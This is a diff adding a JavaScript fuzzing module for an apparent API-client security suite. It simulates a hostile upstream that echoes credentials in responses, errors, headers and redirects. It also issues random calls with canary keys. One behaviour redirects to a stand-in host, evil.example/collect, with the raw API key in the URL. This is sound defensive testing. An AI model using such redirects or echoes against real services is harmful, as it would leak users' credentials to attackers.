@@ -1,0 +1,127 @@
+// What the security suite throws at a capability: an upstream that misbehaves in every way the
+// issue lists (echoing credentials in every form, in results and errors, in malformed JSON, in
+// redirects and request ids; dropping connections), and random calls of any operation of a
+// provider's table with random arguments and per-call credentials.
+//
+// A new feature adds its paths here: a retry joins the behaviours (a 429, a 503 with
+// Retry-After), a refreshed token the credentials, pagination the results.
+import { CORPUS, canary, echoForms, latin1Base64 } from "./corpus.mjs";
+
+/** The credential an upstream request carried, as the upstream sees it. */
+export function credentialOf(request, authHeader) {
+  const value = request.headers[authHeader.toLowerCase()] ?? "";
+  return authHeader.toLowerCase() === "authorization" ? value.replace(/^(Bearer|Basic) /, "") : value;
+}
+
+/**
+ * The upstream's answer to `request`, one of its behaviours at random. `stats` counts them.
+ * `authHeader`: where the credential travels; `contextHeaders`: per-call context headers.
+ */
+export function hostileReply(r, request, { authHeader, contextHeaders = [], stats }) {
+  const header = request.headers[authHeader.toLowerCase()] ?? "";
+  const key = credentialOf(request, authHeader);
+  const context = contextHeaders.map((h) => request.headers[h.toLowerCase()]).filter(Boolean);
+  const forms = Object.fromEntries(echoForms(key));
+  const pick = r.pick(Object.keys(forms));
+  const echo = { url: request.url, method: request.method, headers: request.headers, body: request.body, context };
+  const behaviours = {
+    echoJson: () => ({ status: 200, json: { ...echo, forms, header: forms } }),
+    echoText: () => ({ status: 200, headers: { "content-type": "text/plain" }, body: `you sent ${header}; ${Object.values(forms).join(" | ")}` }),
+    echoHtml: () => ({ status: 200, headers: { "content-type": "text/html" }, body: `<pre>${JSON.stringify(echo)}</pre><p>${forms[pick]}</p>` }),
+    keyAsObjectKey: () => ({ status: 200, json: { [key]: 1, [forms.base64]: 2, [forms[pick]]: 3 } }),
+    error4xx: () => ({
+      status: r.pick([400, 401, 402, 403, 404, 409, 422, 429]),
+      json: { error: { type: "invalid_request_error", message: `Invalid API Key provided: ${forms[pick]}; context ${context.join(",")}`, header, forms } },
+    }),
+    error5xx: () => ({ status: r.pick([500, 502, 503, 504]), headers: { "content-type": "text/html" }, body: `<h1>Oops</h1><pre>${JSON.stringify(echo)} ${forms[pick]}</pre>` }),
+    malformedJson: () => ({ status: 200, headers: { "content-type": "application/json" }, body: `{"echo":"${key}","b64":"${forms.base64}","form":"${forms[pick]}"` }),
+    malformedJsonError: () => ({ status: r.pick([400, 500]), headers: { "content-type": "application/json" }, body: `{"error":{"message":"bad key ${key}" ${forms[pick]}` }),
+    redirectSameOrigin: () => ({ status: r.pick([301, 302, 303, 307, 308]), headers: { location: `/redirected/${r.int(1e6)}?key=${encodeURIComponent(key)}&b=${forms.base64url}` } }),
+    redirectUserinfo: () => ({ status: 302, headers: { location: `http://${encodeURIComponent(key)}@127.0.0.1:1/x` } }),
+    redirectAway: () => ({ status: r.pick([301, 302, 307]), headers: { location: `https://evil.example/collect?k=${forms[pick]}&raw=${encodeURIComponent(key)}&b64=${forms.base64}` } }),
+    requestIdEcho: () => ({ status: r.pick([200, 404]), headers: { "request-id": r.pick([key, forms.base64, forms[pick], `req_${context[0] ?? "none"}`]).replace(/[^\x20-\x7e]/g, "") }, json: { ok: 1 } }),
+    unreachable: () => ({ destroy: true }),
+    noContent: () => ({ status: 204 }),
+    emptyJson: () => ({ status: 200, headers: { "content-type": "application/json" }, body: "" }),
+    bigWithKeyAtEnd: () => ({ status: 200, json: { data: "x".repeat(150_000 + r.int(100_000)), tail: forms[pick] } }),
+    slowEcho: () => ({ status: 200, delay: 1 + r.int(20), json: { echo: header, forms } }),
+    plainOk: () => ({ status: 200, json: { id: "obj_1", object: "thing", context } }),
+  };
+  const name = r.pick(Object.keys(behaviours));
+  stats[name] = (stats[name] ?? 0) + 1;
+  return behaviours[name]();
+}
+
+const SCALAR_STRINGS = ["plain", "with space", "ü", "a&b=c", ...CORPUS.queryValues.values];
+
+function scalar(r) {
+  switch (r.int(6)) {
+    case 0:
+      return r.int(100000);
+    case 1:
+      return r.chance(0.5);
+    case 2:
+      return null;
+    default:
+      return r.pick(SCALAR_STRINGS);
+  }
+}
+
+function nested(r, depth) {
+  if (depth === 0 || r.chance(0.5)) return scalar(r);
+  if (r.chance(0.4)) return Array.from({ length: r.int(3) }, () => nested(r, depth - 1));
+  return Object.fromEntries(Array.from({ length: 1 + r.int(3) }, () => [r.chance(0.3) ? r.pick(CORPUS.queryValues.keys) : `k${r.int(10)}`, nested(r, depth - 1)]));
+}
+
+function valueFor(r, param) {
+  if (param.at === "header") return r.chance(0.9) ? `v_${r.int(1e6)}` : r.pick(CORPUS.headerValues.refused);
+  if (param.at === "query" && param.style === "form") return r.chance(0.8) ? scalar(r) : [scalar(r), scalar(r)];
+  return nested(r, 3);
+}
+
+/**
+ * Random per-call options: a fresh canary key, context headers (allowed names in any case,
+ * context canaries), now and then a refused header name or value. `issued` collects the keys.
+ */
+export function randomOptions(r, table, issued) {
+  if (r.chance(0.35)) return undefined;
+  const auth = {};
+  if (r.chance(0.6)) {
+    auth.apiKey = r.chance(0.95) ? canary(r) : r.pick([...CORPUS.headerValues.refused, ...CORPUS.headerValues.refusedTypes]);
+    if (typeof auth.apiKey === "string") issued.add(auth.apiKey);
+  }
+  if (r.chance(0.5)) {
+    const headers = {};
+    for (const name of table.callHeaders) {
+      if (r.chance(0.6)) headers[r.chance(0.5) ? name.toLowerCase() : name] = canary(r, "context");
+    }
+    if (r.chance(0.1)) headers[r.pick(CORPUS.headerNames.refused)] = canary(r);
+    if (r.chance(0.05) && table.callHeaders.length) headers[table.callHeaders[0]] = r.pick(CORPUS.headerValues.refused);
+    auth.headers = headers;
+  }
+  return { auth };
+}
+
+/** Random arguments for `op`: path values (now and then hostile), params, options. */
+export function randomArgs(r, table, op, issued) {
+  const args = op.pathParams.map(() => (r.chance(0.9) ? `id_${r.int(1e6)}` : r.pick(CORPUS.paths.values)));
+  if (args.length && r.chance(0.02)) args.pop();
+  let params;
+  const whole = (op.body === "jsonValue" || op.body === "text") && op.params.length === 0;
+  if (whole) params = op.body === "text" ? (r.chance(0.9) ? `text ${r.int(1e6)}` : { not: "text" }) : [nested(r, 2), nested(r, 2)];
+  else if (op.params.length || op.open) {
+    if (r.chance(0.85)) {
+      params = {};
+      for (const p of op.params) if ((p.required && r.chance(0.95)) || r.chance(0.2)) params[p.name] = valueFor(r, p);
+      if (op.open && r.chance(0.3)) params[`extra_${r.int(100)}`] = nested(r, 2);
+      if (r.chance(0.04)) params[`bogus_${r.int(100)}`] = 1;
+    } else if (r.chance(0.3)) params = r.pick([7, "str", [1, 2]]);
+  }
+  const options = randomOptions(r, table, issued);
+  if (options !== undefined) args.push(params ?? null, options);
+  else if (params !== undefined) args.push(params);
+  if (r.chance(0.01)) args.push("one too many", {});
+  return args;
+}
+
+export { latin1Base64 };
